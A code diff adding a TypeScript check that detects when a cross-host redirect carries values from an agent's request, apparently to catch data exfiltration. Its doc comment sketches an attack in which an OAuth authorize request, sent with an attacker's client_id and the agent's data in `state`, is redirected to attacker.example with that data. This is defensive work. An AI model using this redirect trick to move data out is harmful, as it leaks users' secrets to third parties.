@@ -917,3 +917,71 @@ function carriedTextOf(request: RequestSkeletons): CarriedText {
   if (!c) carriedTexts.set(request, (c = new CarriedText(request)));
   return c;
 }
+
+/** Request values this long count wherever they are in a redirect's target; shorter ones between word boundaries. */
+const CARRIED_VALUE_MIN_INSIDE = 6;
+/** Request values compared, at most (a request carrying more has its redirects to other hosts unrecorded). */
+const CARRIED_VALUES_MAX = 512;
+
+/** The host without a leading `www.`: a redirect between the two names of one site is no other host. */
+const siteName = (host: string): string => host.replace(/^www\./, '');
+
+const wordChar = /[\p{L}\p{N}_]/u;
+
+/** Whether `v` occurs in `text` with no letter, digit or `_` right before or after it. */
+function occursAsWord(text: string, v: string): boolean {
+  for (let at = text.indexOf(v); at !== -1; at = text.indexOf(v, at + 1)) {
+    if ((at === 0 || !wordChar.test(text[at - 1]!)) && (at + v.length === text.length || !wordChar.test(text[at + v.length]!))) return true;
+  }
+  return false;
+}
+
+/**
+ * Whether a redirect's target, on another host than the request's, carries a value the request sent:
+ * a query parameter's or form field's value, or a top-level JSON string, decoded and case-folded,
+ * found in the target's decoded path and query as a word of its own (`state=<v>`, `/cb/<v>`,
+ * `ctx=v1.<v>.sig`), or anywhere when 6 characters or more; a parameter's name, as a word. A server that builds its
+ * redirect from a stored target and a request field (OAuth's authorize endpoint sends its errors to
+ * the redirect URI the client registered, with the request's `state`:
+ * `/authorize?client_id=<attacker's app>&state=<data>` answers
+ * `Location: https://attacker.example/cb?error=…&state=<data>`) serves a link with the agent's data
+ * in it, whose whole the request never carried, so `echoedBy` does not see it.
+ */
+export function redirectCarriesRequestValue(link: string, request: { host: string; query: Record<string, string[]>; form?: Record<string, string[]> | undefined; json?: unknown }): boolean {
+  let target: URL;
+  try {
+    target = new URL(link);
+  } catch {
+    return true;
+  }
+  if (siteName(target.hostname.toLowerCase()) === siteName(request.host.toLowerCase())) return false;
+  // Names count as words only: a server's own error names (`unsupported_response_type`) hold them.
+  const values = new Set<string>();
+  const names = new Set<string>();
+  const add = (s: string, to = values): void => {
+    if (values.size + names.size > CARRIED_VALUES_MAX) return;
+    const v = s.trim().toLowerCase();
+    if (v) to.add(v);
+  };
+  for (const fields of [request.query, request.form ?? {}]) {
+    for (const [k, vs] of Object.entries(fields)) {
+      add(k, names);
+      for (const v of vs) add(v);
+    }
+  }
+  if (request.json && typeof request.json === 'object' && !Array.isArray(request.json)) {
+    for (const v of Object.values(request.json as Record<string, unknown>)) if (typeof v === 'string') add(v);
+  }
+  if (!values.size && !names.size) return false;
+  if (values.size + names.size > CARRIED_VALUES_MAX) return true; // more than are compared: fails closed
+  let path = target.pathname;
+  try {
+    path = decodeURIComponent(path);
+  } catch {
+    // an escape that is not UTF-8: compared as written
+  }
+  const whole = `${path}?${[...target.searchParams].map(([k, v]) => `${k}=${v}`).join('&')}`.toLowerCase();
+  for (const v of values) if (v.length >= CARRIED_VALUE_MIN_INSIDE ? whole.includes(v) : occursAsWord(whole, v)) return true;
+  for (const k of names) if (occursAsWord(whole, k)) return true;
+  return false;
+}
